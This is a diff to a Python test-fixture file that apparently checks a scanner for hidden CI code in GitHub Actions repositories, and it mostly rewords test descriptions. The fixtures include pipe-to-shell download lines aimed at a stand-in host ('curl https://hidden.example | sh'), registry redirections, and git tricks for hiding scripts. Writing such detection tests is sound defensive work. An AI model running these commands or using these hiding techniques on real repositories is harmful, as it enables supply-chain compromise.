@@ -29,7 +29,7 @@ tree("h07_shell", "`shell:` runs a wrapper of the repository, of a step and for 
 tree("h08_environment", "`BASH_ENV`, `GITHUB_ENV` and `GITHUB_PATH`",
      {WF: HEAD.replace("jobs:", "env: {BASH_ENV: ci/a.sh}\njobs:") + "      - run: echo BASH_ENV=ci/b.sh >> $GITHUB_ENV\n      - run: echo $PWD/ci/bin >> $GITHUB_PATH\n",
       "ci/a.sh": BAD, "ci/b.sh": BAD, "ci/bin/tool": "#!/bin/sh\n" + BAD}, rows=[("ci/a.sh", HIDDEN), ("ci/b.sh", HIDDEN), ("ci/bin/tool", HIDDEN)])
-tree("h09_action_path", "scripts beside an action, by all names of its directory",
+tree("h09_action_path", "scripts next to an action, by all notations of its directory",
      {WF: uses("./act"), "act/action.yml": "name: x\nruns:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/a.sh\n      shell: bash\n    - run: ${{ github.action_path }}/b.sh\n      shell: bash\n    - run: bash ${{ github.workspace }}/ci/c.sh\n      shell: bash\n",
       "act/a.sh": BAD, "act/b.sh": BAD, "ci/c.sh": BAD}, rows=[("act/a.sh", HIDDEN), ("act/b.sh", HIDDEN), ("ci/c.sh", HIDDEN)], complete=True)
 tree("h10_entry_points", "the entry points of a Docker action, and the programs of a Node action",
@@ -66,12 +66,12 @@ tree("h18_marks", "scripts with a byte order mark, in Latin-1, and with lines th
 tree("h19_lfs", "pointers of Git LFS in place of a script, a lockfile, requirements and a workflow",
      {WF: run("bash x.sh"), "x.sh": POINTER, "package-lock.json": POINTER, "requirements.txt": POINTER, ".github/workflows/y.yml": POINTER},
      code=13, complete=False, diagnostics=[lost(p, "Git LFS") for p in ("x.sh", "package-lock.json", "requirements.txt", ".github/workflows/y.yml")])
-tree("h20_recoded", "`.gitattributes` makes other bytes of a script than the repository holds", {WF: run("bash x.sh"), ".gitattributes": "*.txt working-tree-encoding=UTF-16LE-BOM\n", "x.sh": "echo\n"},
+tree("h20_recoded", "`.gitattributes` converts a script to bytes that differ from those in the repository", {WF: run("bash x.sh"), ".gitattributes": "*.txt working-tree-encoding=UTF-16LE-BOM\n", "x.sh": "echo\n"},
      complete=False, diagnostics=[(".gitattributes", "note", "recoded-files")])
-tree("h21_sources", "tools are told to fetch from elsewhere",
+tree("h21_sources", "configuration that makes tools fetch from other servers",
      {".npmrc": "registry=https://hidden.example/\n", "pip.conf": "[global]\nindex-url = https://hidden.example/\n", ".cargo/config.toml": "[source.crates-io]\nreplace-with = 'x'\n", ".yarnrc.yml": "npmRegistryServer: https://hidden.example\n"},
      complete=False, diagnostics=[(".npmrc", "note", "npm-config"), ("pip.conf", "note", "pip-config"), (".cargo/config.toml", "note", "cargo-config"), (".yarnrc.yml", "note", "yarn-config")])
-tree("h22_case", "names in another case, which Windows and macOS fold",
+tree("h22_case", "names in another case, which Windows and macOS ignore",
      {WF: uses("./act"), "act/Action.yml": ACTION, "DOCKERFILE": "FROM hidden/image\n", "Package.json": "{}", ".github/Workflows/x.yml": uses("hidden-owner/act@main")},
      complete=False, diagnostics=[(".github/Workflows/x.yml", "note", "other-case: 4 files")])
 tree("h23_line_breaks", "a line break of YAML 1.1 ends the comment that hides a job",
@@ -81,16 +81,16 @@ tree("h24_too_large", "a script, a Dockerfile and an action too large to be read
      {WF: run("bash x.sh\ndocker build .") + "      - uses: ./act\n", "x.sh": "#" * (5 << 20) + "\n" + BAD, "Dockerfile": "#" * (5 << 20) + "\nFROM hidden/image\n", "act/action.yml": "#" * (5 << 20) + "\n" + ACTION},
      code=13, complete=False, diagnostics=[(p, "too-large", "limit") for p in ("x.sh", "Dockerfile", "act/action.yml")])
 def index(*args): return lambda r, p: git(r, "update-index", *args, p)
-tree("h25_sparse", "scripts and a workflow that git tracks and the work tree lacks",
+tree("h25_sparse", "tracked scripts and a workflow that are missing in the work tree",
      {WF: run("bash a.sh\nbash b.sh"), "a.sh": Later(lambda r, p: (index("--skip-worktree")(r, p), (r/p).unlink()), before=BAD), "b.sh": Later(lambda r, p: (r/p).unlink(), before=BAD),
       ".github/workflows/y.yml": Later(lambda r, p: (r/p).unlink(), before=uses("hidden-owner/act@main"))},
      rows=[("a.sh", HIDDEN), ("b.sh", HIDDEN), (".github/workflows/y.yml", "hidden-owner/act")], complete=True)
-tree("h26_assumed", "scripts that git is told not to look at, changed", {WF: run("bash a.sh\nbash b.sh"),
+tree("h26_assumed", "changed scripts that are marked as unchanged in git", {WF: run("bash a.sh\nbash b.sh"),
      "a.sh": Later(lambda r, p: (index("--assume-unchanged")(r, p), w(r/p, BAD)), before="echo\n"), "b.sh": Later(lambda r, p: (index("--skip-worktree")(r, p), w(r/p, BAD)), before="echo\n")},
      rows=[("a.sh", HIDDEN), ("b.sh", HIDDEN)], complete=True)
-tree("h27_ignored", "a tracked script and action that `.gitignore` names", {WF: run("bash x.sh") + "      - uses: ./act\n", ".gitignore": "*\n", "x.sh": BAD, "act/action.yml": ACTION},
+tree("h27_ignored", "a tracked script and action that `.gitignore` matches", {WF: run("bash x.sh") + "      - uses: ./act\n", ".gitignore": "*\n", "x.sh": BAD, "act/action.yml": ACTION},
      rows=[("x.sh", HIDDEN), ("act/action.yml", "hidden-owner/act")], complete=True)
-tree("h28_spellings", "odd spellings of local paths", {WF: "".join([uses(".//a")] + [f"      - uses: {v}\n" for v in ("./x/../b", "./c/", "././d")]),
+tree("h28_spellings", "unusual notations of local paths", {WF: "".join([uses(".//a")] + [f"      - uses: {v}\n" for v in ("./x/../b", "./c/", "././d")]),
      **{f"{n}/action.yml": ACTION.replace("hidden-owner", f"hidden-{n}") for n in "abcd"}, "x/y": ""}, rows=[(f"{n}/action.yml", f"hidden-{n}/act") for n in "abcd"], complete=True)
 tree("h29_docker_action", "the Dockerfile of an action elsewhere in the tree, and the arguments of an image",
      {WF: uses("./act") + f"      - uses: docker://alpine@sha256:{'1'*64}\n        with:\n          args: sh -c 'curl https://hidden.example/a.sh | sh'\n",
@@ -100,7 +100,7 @@ tree("h30_vendored", "scripts and actions that CI runs from vendored and embedde
      {WF: uses("./third_party/act") + "      - run: bash third_party/x.sh\n      - run: bash node_modules/y.sh\n      - uses: ./pkg/act\n", "third_party/act/action.yml": ACTION, "third_party/x.sh": BAD,
       "node_modules/y.sh": BAD, "pkg/.github/x": "", "pkg/act/action.yml": ACTION.replace("hidden-owner", "hidden-pkg")},
      rows=[("third_party/act/action.yml", "hidden-owner/act"), ("third_party/x.sh", HIDDEN), ("node_modules/y.sh", HIDDEN), ("pkg/act/action.yml", "hidden-pkg/act")])
-tree("h31_downloads", "downloads whose addresses are in a file or a pipeline", {WF: run("curl -K list"), ".github/workflows/y.yml": run("cat list | xargs curl -O"), ".github/workflows/z.yml": run("find ci -name '*.sh' -exec bash {} +"), "list": "url=https://hidden.example\n", "ci/a.sh": BAD},
+tree("h31_downloads", "downloads whose URLs are in a file or a pipeline", {WF: run("curl -K list"), ".github/workflows/y.yml": run("cat list | xargs curl -O"), ".github/workflows/z.yml": run("find ci -name '*.sh' -exec bash {} +"), "list": "url=https://hidden.example\n", "ci/a.sh": BAD},
      complete=False, diagnostics=[(WF, "note", "computed-commands: 3 files")])
 tree("h32_bake", "files of images and runners of commands", {"docker-bake.hcl": 'target "x" {}\n', "justfile": "ci:\n  curl https://hidden.example | sh\n", "Taskfile.yml": "tasks: {x: {cmds: [curl https://hidden.example]}}\n"},
      complete=False, diagnostics=[("docker-bake.hcl", "note", "docker-bake"), ("justfile", "note", "just"), ("Taskfile.yml", "note", "task")])
